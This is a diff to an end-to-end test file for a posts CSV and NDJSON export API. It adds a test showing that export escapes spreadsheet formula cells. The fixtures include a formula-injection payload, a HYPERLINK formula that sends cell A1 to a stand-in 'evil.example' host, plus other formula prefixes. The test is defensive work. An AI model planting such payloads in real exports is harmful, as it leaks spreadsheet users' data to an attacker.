@@ -4,16 +4,7 @@ import { DataSource } from 'typeorm';
 import { sleep } from '../utils/net';
 import { startTestApp, TestApp } from '../utils/test-app';
 import { importCsv, PostRow, rowsDigest, storedPosts, toCsv, trickyRows } from './csv-fixtures';
-
-/** Export queries of this app that are still running (or paused mid-cursor). */
-async function runningExports(dataSource: DataSource): Promise<number> {
-  const [row] = (await dataSource.query(
-    `SELECT count(*)::int AS count FROM pg_stat_activity
-     WHERE application_name = 'loadstar' AND query LIKE '%loadstar:posts-export%'
-       AND state <> 'idle' AND pid <> pg_backend_pid()`,
-  )) as { count: number }[];
-  return row.count;
-}
+import { runningExports } from './running-exports';
 
 async function eventually(check: () => Promise<boolean>, timeoutMs = 5_000): Promise<boolean> {
   const deadline = Date.now() + timeoutMs;
@@ -94,6 +85,49 @@ describe('GET /api/posts/export (e2e)', () => {
     expect(await storedPosts(dataSource, other.id)).toEqual({
       count: rows.length,
       digest: rowsDigest(rows),
+    });
+  });
+
+  it('CSV: escapes cells a spreadsheet would run as formulas, and imports them back exactly', async () => {
+    const author = await t.api.createUser();
+    const formulas: PostRow[] = [
+      ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '=1+1'],
+      ['+SUM(1,2)', '-2+3'],
+      ['@SUM(A1:A2)', '\tindented'],
+      ["'quoted", "''twice"],
+      ['\rcarriage', "'=already escaped by hand"],
+      ['plain = safe', 'a-b@c'],
+    ];
+    for (const [title, body] of formulas) {
+      await t.api.post('/api/posts', { title, body }, { token: author.token });
+    }
+    const exported = await t.api.get(`/api/posts/export?format=csv&authorId=${author.id}`);
+    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
+    expect(records.map((record) => [record.title, record.body])).toEqual([
+      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`, "'=1+1"],
+      ["'+SUM(1,2)", "'-2+3"],
+      ["'@SUM(A1:A2)", "'\tindented"],
+      ["''quoted", "'''twice"],
+      ["'\rcarriage", "''=already escaped by hand"],
+      ['plain = safe', 'a-b@c'],
+    ]);
+    const ndjson = await t.api.get(`/api/posts/export?format=ndjson&authorId=${author.id}`);
+    expect(
+      ndjson.text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line).title),
+    ).toEqual(formulas.map(([title]) => title));
+
+    const other = await t.api.createUser();
+    expect((await importCsv(t.api, other.token, exported.text)).body).toEqual({
+      imported: 6,
+      failed: 0,
+      errors: [],
+    });
+    expect(await storedPosts(dataSource, other.id)).toEqual({
+      count: 6,
+      digest: rowsDigest(formulas),
     });
   });
 
